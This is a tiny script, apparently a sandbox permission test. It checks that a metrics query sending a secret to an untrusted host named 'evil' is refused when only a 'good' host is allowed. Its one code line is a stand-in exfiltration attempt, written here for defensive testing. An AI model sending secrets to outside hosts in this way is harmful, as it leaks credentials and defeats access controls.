-- Asks another host for the figures of a secret.
-- allow: http GET ${good}/*
-- says: not permitted; to permit it, add this line to `allow`: "metrics http://127.0.0.1
metrics.prometheus(run.evil):query(run.secret)
